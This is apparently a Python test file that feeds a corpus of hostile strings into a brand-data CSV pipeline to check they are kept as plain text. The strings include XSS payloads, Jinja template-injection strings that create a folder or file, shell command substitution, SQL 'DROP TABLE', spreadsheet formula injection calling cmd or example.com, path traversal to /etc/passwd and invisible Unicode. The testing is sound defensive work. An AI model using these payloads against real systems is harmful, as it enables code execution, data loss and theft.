"""Texts that would act if a page, a template, a spreadsheet or a terminal took them for more than text.

All are accepted and shown as they are, but for what ``brandmap.markup.clean`` takes out: what nobody can see.
"""

# ruff: noqa: E501 - one case, one line

from __future__ import annotations

import html
from collections.abc import Mapping

from brandmap.markup import clean
from brandmap.schema import TABLES
from tests.hostile.corpus import ACCEPTED, MODEL, Case, Files, cell, csv_of, rows_of

MARK = "top.hostile=1"
#: By group: name → text. What a browser or a template engine would run sets a property of the top window or makes a folder.
TEXTS: Mapping[str, Mapping[str, str]] = {
    "active": {
        "script": f"<script>{MARK}</script>",
        "script closed first": f"</script><script>{MARK}</script>",
        "image": f"<img src=x onerror={MARK}>",
        "image in quotes": f"\"><img src=x onerror='{MARK}'>",
        "SVG": f"<svg onload={MARK}>",
        "SVG with a script": f"<svg><script>{MARK}</script></svg>",
        "frame": f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
        "details": f"<details open ontoggle={MARK}>",
        "link": f'<a href="javascript:{MARK}">x</a>',
        "style": "<style>*{display:none}</style>",
        "meta": "<meta http-equiv=refresh content=0;url=//example.com>",
        "base": "<base href=//example.com>",
        "form": "<form action=//example.com><button>x",
        "comment": "<!-- --!> <![CDATA[",
        "attribute": f"' onmouseover={MARK} x='",
        "double attribute": f'" autofocus onfocus={MARK} x="',
        "javascript address": f"javascript:{MARK}",
        "template literal": "${" + MARK + "}",
        "backtick": f"`+({MARK})+`",
        "string": f"'+({MARK})+'",
        "backslash": f"\\');{MARK}//",
        "entities": "&lt;b&gt; &#60;i&#62; &amp;amp; &copy;",
        "unicode escape": "\\u003cscript\\u003e \\x3c",
        "noscript": f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
        "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}&gt;'>",
    },
    "template": {
        "product": "{{7*7}}",
        "folder": "{{ lipsum.__globals__.os.mkdir(dict(canary=1)|first) }}",
        "file": "{{ lipsum.__globals__['__builtins__'].open('canary','w') }}",
        "loop": "{% for k in dict(canary=1) %}{{ lipsum.__globals__.os.mkdir(k) }}{% endfor %}",
        "block": "{% endmacro %}{% raw %}",
        "comment": "{# comment",
        "half": "}} {{ %}",
        "format": "{0} {name} {n} {value} %s %(name)s $name {__class__}",
        "shell": "$(touch canary) `touch canary`; touch canary | touch canary",
        "SQL": "'; DROP TABLE brands; --",
    },
    "formula": {
        "equals": "=1+1",
        "command": "=cmd|'/C calc'!A0",
        "plus": "+1+cmd|'/C calc'!A0",
        "minus": "-2+3",
        "at": "@SUM(1+1)",
        "full-width equals": "＝1+1",
        "hyperlink": '=HYPERLINK("http://example.com?"&A1,"x")',
        "web service": '=WEBSERVICE("http://example.com")',
        "after a quotation mark": '"=1+1"',
    },
    "markdown": {
        "link": f"[x](javascript:{MARK})",
        "picture": "![x](http://example.com/a.png)",
        "colour": ":red[red] :blue-background[x]",
        "icon": ":material/home: :streamlit:",
        "emoji name": ":dog: :+1:",
        "formula": "$\\frac{1}{0}$ $$x^2$$",
        "emphasis": "**a** __b__ ~~c~~ `d` *e*",
        "heading": "# a",
        "list": "1. a",
        "table": "|a|b|",
        "bare address": "www.example.com http://example.com",
        "mail address": "a@example.com",
        "arrows": "a -> b <- c -- d >= e",
        "footnote": "[^1] [x][y] <http://example.com>",
    },
    "unseen": {
        "override": "\u202egnp.exe\u202c",
        "isolate": "\u2066a\u2069\u2067b\u2069",
        "marks of direction": "a\u200eb\u200fc\u061cd",
        "zero-width blank": "瓜\u200b田\u2060警\ufeff务",
        "soft hyphen": "po\u00adlice",
        "tag characters": "a\U000e0041\U000e007fb",
        "control characters": "a\x00b\x07c\x1b[31md\x7fe\x9bf",
        "annotation": "a\ufff9b\ufffac\ufffbd",
        "no characters": "a\ufffeb\uffffc\ufdd0d",
        "lone surrogate": "a\ud800b\udfffc",
        "Mongolian separator": "a\u180eb",
        "invisible operators": "a\u2061b\u2064c\u206ad",
    },
    "unusual": {
        "emoji": "🍎🚓👮",
        "joined emoji": "👮‍♀️👨‍👩‍👧 🏴",
        "flags": "🇨🇳",
        "combining": "e\u0301 a\u0308",
        "stacked marks": "Z" + "\u0335\u0321\u0489" * 4,
        "rare characters": "𠮷𬇙龘㐀",
        "Tibetan": "རྨ་ཆུ་རྫོང་།",
        "Uyghur, right to left": "گەنسۇ ئۆلكىسى",
        "Cyrillic look-alikes": "Нuining",
        "full-width letters": "Ｈｕｉｎｉｎｇ　１２３",
        "ligatures and signs": "ﬁ ㎡ ℃ ½ ™ ﷺ",
        "mathematical letters": "𝓗𝓾𝓲𝓷𝓲𝓷𝓰",
        "private use": "a\ue000b",
        "path up": "../../../etc/passwd",
        "Windows path": "C:\\Windows\\..\\con.txt",
        "UNC path": "\\\\host\\share",
        "device": "CON",
        "file name": "a/b\\c:d*e?f\"g<h>i|j.csv",
        "null word": "undefined null NaN",
        "prototype": "__proto__ constructor toString",
        "line feed written out": "a\\r\\nb%0d%0aSet-Cookie: x=1",
    },
}  # fmt: skip


def _fitting(text: str, limit: int) -> str:
    """The text if the cell takes it, or else a short payload."""
    return text if len(clean(text)) <= limit else "<b>&{{7*7}}"


def _everywhere(group: str, name: str, text: str) -> Case:
    """The text in every text cell of the model and of its measures, figures and places."""

    def files_of(files: Files) -> Files:
        made = dict(files)
        for table in ("brands", "measures", "figures", "places"):
            heading, rows = rows_of(files[table])
            key = "id" if table == "brands" else "brand"
            for row in rows:
                if row[key] == MODEL:
                    row |= {
                        column.name: _fitting(text, column.max_length)
                        for column in TABLES[table].columns
                        if column.kind in ("text", "prose") and column.name != "place"
                    }
            made[table] = csv_of(heading, rows).encode("utf-8", "surrogatepass")
        return made

    shown = {"name.en": clean(_fitting(text, 60)), "problem.zh": clean(text), "mechanism.en": clean(text)}
    return Case(group, name, files_of, ACCEPTED, shown)


CASES = [
    *(_everywhere(group, name, text) for group, texts in TEXTS.items() for name, text in texts.items() if name not in ("lone surrogate", "control characters")),
    cell("unseen", "control characters but NUL", {"name_zh": "a\x07b\x1b[31mc\x7fd\x9be"}, name__zh="ab[31mcde"),
    cell("active", "an escaped text stays escaped once", {"name_zh": html.escape("<b>")}, name__zh="&lt;b&gt;"),
    cell("active", "a list with payloads", {"serves_zh": f"<script>{MARK}</script>；{{{{7*7}}}}", "serves_en": "=1+1;${x}"}, serves__0__zh=f"<script>{MARK}</script>", serves__1__en="${x}"),
]  # fmt: skip
